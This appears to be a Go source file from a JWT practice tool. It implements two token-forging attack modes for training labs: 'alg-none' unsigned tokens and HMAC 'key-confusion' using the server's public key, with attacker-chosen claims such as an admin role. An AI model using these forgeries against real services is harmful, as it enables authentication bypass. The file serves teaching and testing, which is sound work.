package authn

import (
	"fmt"
	"strings"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

// The attack modes of scheme jwt, for the practice server's attack labs
// (`authlab serve --labs`, issue #20). Each builds a token that a correct
// verifier refuses and that authlab's normal build mode refuses to make:
//
//   - alg-none: an unsecured JWT (RFC 7519 §6), header alg "none" and an
//     empty signature, for a verifier that lets the header choose the
//     algorithm (RFC 8725 §2.1, §3.1);
//   - key-confusion: HS256/384/512 keyed with a PEM public key, for a
//     verifier that uses its RSA public key with whatever alg the header
//     names (RFC 8725 §2.1, §3.1).
//
// They are behind the explicit field attack (empty or "off": no attack) and say in the
// first trace step, loudly, that the request is an attack.

const jwtAttackOff = "off"

// jwtAttacks are the values of the attack field ("" is off too).
var jwtAttacks = []string{jwtAttackOff, "alg-none", "key-confusion"}

// jwtAttack builds, records and sends the token of attack.
func jwtAttack(out *Outgoing, c Credentials, attack string, now time.Time, tr *Trace) error {
	claimsText := strings.TrimSpace(c.Get("claims"))
	switch {
	case strings.TrimSpace(c.Get("token")) != "":
		return &InputError{Field: "token", Problem: "attack " + attack + " builds its own token from claims, and a token was given too",
			Fix: `drop -c token and give -c claims='{"sub":"…"}'`}
	case claimsText == "":
		return &InputError{Field: "claims", Problem: "attack " + attack + " needs the claims of the token to forge",
			Fix: `add -c claims='{"sub":"student","role":"admin"}'`}
	}
	claims, notes, err := jwtClaims(claimsText, now)
	if err != nil {
		return err
	}
	var method jwt.SigningMethod
	var key any
	var what, ref, keyNote string
	switch attack {
	case "alg-none":
		method, key = jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType
		what = `an unsecured token: header alg "none" and an empty signature, so whoever writes the claims is believed by a verifier that lets the header choose the algorithm`
		ref = "RFC 8725 §2.1, §3.1; RFC 7519 §6"
	case "key-confusion":
		alg := c.Get("alg")
		if alg == "" {
			alg = "HS256"
		}
		if !strings.HasPrefix(alg, "HS") {
			return &InputError{Field: "alg", Problem: "attack key-confusion signs with HMAC, and alg is " + jwtQuote(alg),
				Fix: "use -c alg=HS256 (the alg the confused verifier takes the public key for)"}
		}
		secret := c.Get("secret")
		if !jwtLooksPEM(secret) {
			return &InputError{Field: "secret", Problem: "attack key-confusion uses the server's PEM public key as the HMAC secret, and secret is not a PEM key",
				Fix: "download the public key and give -c secret=file:public.pem"}
		}
		if !strings.HasSuffix(secret, "\n") {
			// file: drops the final newline; a PEM file, and the key bytes
			// the server holds, end with one.
			secret += "\n"
			keyNote = " The PEM file's final newline was put back (file: references drop it): the HMAC key must be the server's bytes exactly."
		}
		method, key = jwt.GetSigningMethod(alg), []byte(secret)
		what = "an " + alg + " token whose HMAC secret is the server's RSA public key (PEM bytes): a verifier that uses its one key with whatever alg the header names accepts it, and the public key is public"
		ref = "RFC 8725 §2.1, §3.1"
	default:
		return &InputError{Field: "attack", Problem: "unknown attack " + jwtQuote(attack), Fix: "use one of " + strings.Join(jwtAttacks, ", ")}
	}

	warn := "ATTACK: this request forges " + what + ". A correct server refuses it. Use it only against the practice server's attack labs (authlab serve --labs) or a service you own."
	if out.URL != nil && !strings.HasPrefix(out.URL.Path, "/labs/") {
		warn += " This URL is not an authlab practice lab (/labs/…)."
	}
	tr.Add("ATTACK (practice lab): "+attack, ref, warn, Plain("attack", attack))

	t := jwt.NewWithClaims(method, claims)
	if kid := c.Get("kid"); kid != "" {
		t.Header["kid"] = kid
	}
	token, err := t.SignedString(key)
	if err != nil {
		return &InputError{Field: "attack", Problem: fmt.Sprintf("attack %s: the token could not be made (%v)", attack, err), Fix: "check the claims JSON"}
	}
	parts := strings.SplitN(token, ".", 3)
	hjson, _ := jwtDecodeSegment("header", parts[0])
	cjson, _ := jwtDecodeSegment("claims", parts[1])
	tr.Add("Write the claims set", "RFC 7519 §4, §7.1", "The claims the forged token asserts."+notes, Plain("claims", string(cjson)))
	hstep := tr.Add("Write the JOSE header", "RFC 7515 §4.1", "alg is the lie the attack tells the verifier.", Plain("header", string(hjson)))
	if attack == "alg-none" {
		hstep.Note += " With alg none the signature is empty: the token ends with a dot (RFC 7519 §6.1)."
	} else {
		secret := string(key.([]byte))
		hstep.Values = append(hstep.Values, Secret("HMAC key", secret, fmt.Sprintf("%s (a PEM public key, %d bytes)", Mask(""), len(secret))))
		hstep.Note += " Signed with HMAC keyed with the PEM bytes of the public key." + keyNote
	}
	tr.Add("The forged token", "RFC 7515 §7.1", "header.claims.signature, as a verifier receives it.",
		Secret("token", token, ""), Plain("token length", fmt.Sprintf("%d bytes", len(token))))
	jwtSetHeader(out, token, tr)
	return nil
}
